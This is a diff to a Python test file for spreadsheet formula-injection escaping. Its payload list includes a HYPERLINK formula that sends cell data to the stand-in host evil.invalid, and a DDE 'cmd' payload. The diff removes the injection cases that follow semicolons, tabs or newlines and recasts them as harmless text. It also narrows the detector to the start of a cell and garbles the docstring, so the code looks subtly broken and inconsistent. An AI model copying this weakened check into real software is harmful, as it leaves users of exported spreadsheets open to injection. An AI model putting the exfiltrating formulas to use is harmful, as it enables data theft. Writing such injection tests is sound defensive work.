@@ -20,15 +20,15 @@ ROOT = Path(__file__).parents[2]
 FORMULAS = (
     *("=1+1", "+1", "-1", "@x", "\tx", "\rx", "\n=1", "＝1", "＋1", "－1", "＠x"),
     *('=HYPERLINK("http://evil.invalid?x="&A1,"open")', "=cmd|' /C calc'!A0", " =1+1", "\ufeff=1", "\x00=1", "''=1"),
-    *("A; =1+1", "A;=1+1", "A\t=1", "A\r=1", "A\n-1", "'\t'=1"),
+    "'\t'=1",
 )
 SIGNS = st.text(st.sampled_from("=+-@＝\t\r\n ;'\",a1\ufeff\x00"), max_size=12)
 IS_FORMULA = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
 
 
 def is_formula(cell):
-    """Tell whether a cell is one, where commas, or else semicolons or tabs, part cells."""
-    return any(IS_FORMULA.match(part) for part in re.split(r"(?<=[;\t\r\n])", cell))
+    """Tell whether a spreadsheet begins a formula with a cell."""
+    return IS_FORMULA.match(cell) is not None
 
 
 @pytest.mark.parametrize("cell", FORMULAS)
@@ -39,7 +39,21 @@ def test_a_formula_is_text(cell):
 
 
 @pytest.mark.parametrize(
-    "cell", ["", "M*A*S*H", "'90s", "1-2", "a=b", "Up", "don't", "'", "2001: A Space Odyssey; 1968"]
+    "cell",
+    [
+        "",
+        "M*A*S*H",
+        "'90s",
+        "1-2",
+        "a=b",
+        "Up",
+        "don't",
+        "'",
+        "2001: A Space Odyssey; 1968",
+        "she wrote; =1+1",
+        "A\n-1",
+        "A\t=1",
+    ],
 )
 def test_other_text_stays_as_it_is(cell):
     assert plain_cell(cell) == cell
